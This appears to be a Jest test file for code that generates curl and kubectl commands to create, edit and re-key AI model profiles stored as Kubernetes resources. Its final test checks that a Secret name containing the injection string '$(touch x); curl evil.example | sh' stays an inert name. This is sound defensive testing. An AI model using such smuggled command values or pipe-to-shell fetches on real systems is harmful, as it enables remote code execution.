import { execFileSync } from 'node:child_process';
import { describe, expect, it } from '@jest/globals';
import { parse } from 'yaml';
import { createCommand, type ProfileSubject, profileCommands } from './profile-commands.ts';
import { NEW_PROFILE, type ProfileValues } from './profile-values.ts';

const door = { origin: 'http://localhost:8000', token: false, namespace: 'agents', kubeconfig: null };
const KEY = `k"e'y $HOME`;

/** What the programs of a script are called with, and what they are given to read. */
function run(script: string): { words: string[]; input: string }[] {
  const shims = ['curl', 'kubectl']
    .map(
      (name) =>
        `${name}() { for word in ${name} "$@"; do printf '%s\\0' "$word"; done; case "$*" in *' -f -'*) cat;; esac; printf '\\1'; }`,
    )
    .join('\n');
  const out = execFileSync('sh', ['-c', `${shims}\n${script}`], {
    encoding: 'utf8',
    env: { API_KEY: KEY, PATH: process.env.PATH },
  });
  return out
    .split('\u0001')
    .slice(0, -1)
    .map((call) => {
      const words = call.split('\0');
      return { words: words.slice(0, -1), input: words.at(-1) ?? '' };
    });
}

const values = (part: Partial<ProfileValues>): ProfileValues => ({
  ...NEW_PROFILE,
  display_name: `Bob's GPT`,
  model: 'gpt-6.2-sol',
  ...part,
});

describe('the line that creates a profile', () => {
  it('makes a labelled Secret and an object that refers to it, with the key from the shell', () => {
    const calls = run(createCommand(values({ default: true, users: ['no'], top_p: '0.5' }), true, door).kubectl);
    expect(calls.map(({ words }) => words.slice(1))).toEqual([
      ['-n', 'agents', 'create', 'secret', 'generic', 'bob-s-gpt-key', `--from-literal=apiKey=${KEY}`],
      ['-n', 'agents', 'label', 'secret', 'bob-s-gpt-key', 'sweagent.dev/credential=model'],
      ['-n', 'agents', 'annotate', 'secret', 'bob-s-gpt-key', '--overwrite', 'sweagent.dev/hosts=api.openai.com'],
      ['-n', 'agents', 'apply', '-f', '-'],
    ]);
    expect(parse(calls[3]?.input ?? '')).toEqual({
      apiVersion: 'sweagent.dev/v1alpha1',
      kind: 'AIProfile',
      metadata: { name: 'bob-s-gpt' },
      spec: {
        displayName: `Bob's GPT`,
        provider: 'openai',
        model: 'gpt-6.2-sol',
        default: true,
        users: ['no'],
        parameters: { topP: 0.5 },
        credentialSecretRef: { name: 'bob-s-gpt-key' },
      },
    });
  });

  it('says of an address without TLS that the key may go there', () => {
    const typed = values({ provider: 'openai-compatible', base_url: 'http://models.lan:8080/v1' });
    const bound = run(createCommand(typed, true, door).kubectl).find(({ words }) => words.includes('annotate'));
    expect(bound?.words.at(-1)).toBe('sweagent.dev/hosts=http://models.lan:8080');
  });

  it('keeps texts that YAML takes for something else', () => {
    const [call] = run(createCommand(values({ display_name: 'yes', model: 'null', provider: 'ollama' }), false, door).kubectl);
    expect(parse(call?.input ?? '').spec).toEqual({ displayName: 'yes', model: 'null', provider: 'ollama' });
  });

  it('sends the same to REST, and has no key in it itself', () => {
    const { curl, kubectl } = createCommand(values({}), true, { ...door, token: true });
    expect(`${curl}${kubectl}`).not.toContain(KEY);
    expect(curl).toContain('-H "Authorization: Bearer $API_TOKEN"');
    const [call] = run(createCommand(values({}), true, door).curl.replace(/"\$API_KEY"/, '"plain-key"'));
    expect(call?.words.slice(0, 4)).toEqual(['curl', '-X', 'POST', 'http://localhost:8000/agent/profiles']);
    expect(JSON.parse(call?.words.at(-1) ?? '')).toEqual({
      display_name: `Bob's GPT`,
      provider: 'openai',
      model: 'gpt-6.2-sol',
      key: 'plain-key',
    });
  });
});

const subject = (part: Partial<ProfileSubject>): ProfileSubject => ({
  name: 'my-gpt',
  secret: 'my-key',
  host: 'api.openai.com',
  change: { model: 'gpt-6.2-sol' },
  movesTo: null,
  ...part,
});

const may = { test: true, change: true, replaceKey: true, delete: true };

it('has no line for what somebody may not do', () => {
  const titles = (rights: Partial<typeof may>) =>
    profileCommands(subject({}), null, door, {
      ...{ test: false, change: false, replaceKey: false, delete: false },
      ...rights,
    }).map(({ title }) => title);
  expect(titles({})).toEqual(['Show it']);
  expect(titles({ test: true, delete: true })).toEqual(['Show it', 'Test it now', 'Delete it']);
  expect(titles({ change: true })).toEqual(['Show it', 'Edit it', 'Make it the default', 'Assign it to users']);
  expect(titles({ replaceKey: true })).toEqual(['Show it', 'Replace its key']);
});

it('makes a Secret for a key where there is none yet', () => {
  const give = profileCommands(subject({ secret: null }), null, door, may).find(({ title }) => title === 'Give it a key');
  const calls = run(give?.kubectl ?? '').map(({ words }) => words.slice(3));
  expect(calls).toEqual([
    ['create', 'secret', 'generic', 'my-gpt-key', `--from-literal=apiKey=${KEY}`],
    ['label', 'secret', 'my-gpt-key', 'sweagent.dev/credential=model'],
    ['annotate', 'secret', 'my-gpt-key', '--overwrite', 'sweagent.dev/hosts=api.openai.com'],
    ['patch', 'aip', 'my-gpt', '--type', 'merge', '-p', '{"spec":{"credentialSecretRef":{"name":"my-gpt-key"}}}'],
  ]);
});

describe('the line that edits a profile', () => {
  const edit = (part: Partial<ProfileSubject>) =>
    profileCommands(subject(part), null, door, may).find(({ title }) => title === 'Edit it') ?? { curl: '', kubectl: '' };

  it('makes the change of the form at both doors', () => {
    const change = { display_name: "Bob's", fallback: null, pricing: { input_per_million: 2, output_per_million: null } };
    const { curl, kubectl } = edit({ change });
    const [call] = run(curl);
    expect(call?.words.slice(0, 4)).toEqual(['curl', '-X', 'PATCH', 'http://localhost:8000/agent/profiles/my-gpt']);
    expect(JSON.parse(call?.words.at(-1) ?? '')).toEqual(change);
    const [patch, ...rest] = run(kubectl);
    expect(rest).toEqual([]);
    expect(patch?.words.slice(3, 8)).toEqual(['patch', 'aip', 'my-gpt', '--type', 'merge']);
    expect(JSON.parse(patch?.words.at(-1) ?? '')).toEqual({
      spec: { displayName: "Bob's", fallbackRef: null, pricing: { inputPerMillion: 2, outputPerMillion: null } },
    });
    expect(edit({ change: { fallback: 'other' } }).kubectl).toContain('{"spec":{"fallbackRef":{"name":"other"}}}');
  });

  it('takes a new key along to another host, and binds it to that', () => {
    const moved = edit({ change: { base_url: 'https://other.example/v1' }, movesTo: 'other.example', secret: 'my-key' });
    expect(`${moved.curl}${moved.kubectl}`).not.toContain(KEY);
    const [call] = run(moved.curl.replace('"$API_KEY"', 'new'));
    expect(JSON.parse(call?.words.at(-1) ?? '')).toEqual({ base_url: 'https://other.example/v1', key: 'new' });
    expect(run(moved.kubectl).map(({ words }) => words.slice(3, 6).join(' '))).toEqual([
      'patch aip my-gpt',
      'patch secret my-key',
      'annotate secret my-key',
    ]);
  });
});

it('has a line of every kind for everything that can be done with a profile', () => {
  const commands = profileCommands(subject({}), `o'neil`, door, may);
  expect(commands.map(({ title }) => title)).toEqual([
    'Show it',
    'Test it now',
    'Edit it',
    'Make it the default',
    'Assign it to users',
    'Replace its key',
    'Delete it',
  ]);
  const assign = commands.find(({ title }) => title === 'Assign it to users');
  expect(JSON.parse(run(assign?.curl ?? '')[0]?.words.at(-1) ?? '')).toEqual({ users: [`o'neil`] });
  expect(JSON.parse(run(assign?.kubectl ?? '')[0]?.words.at(-1) ?? '')).toEqual({ spec: { users: [`o'neil`] } });
  const replace = commands.find(({ title }) => title === 'Replace its key');
  const plain = (line = '') => JSON.parse(run(line.replace('"$API_KEY"', 'new'))[0]?.words.at(-1) ?? '');
  expect(plain(replace?.curl)).toEqual({ key: 'new' });
  expect(plain(replace?.kubectl)).toEqual({ stringData: { apiKey: 'new' } });
});

it('a Secret whose name is a command is still only a name', () => {
  const lines = profileCommands(subject({ secret: '$(touch x); curl evil.example | sh' }), null, door, may);
  const replace = lines.find(({ title }) => title === 'Replace its key');
  const calls = run(replace?.kubectl ?? '');
  expect(calls.map(({ words }) => words.slice(3, 6))).toEqual([['patch', 'secret', '$(touch x); curl evil.example | sh']]);
});
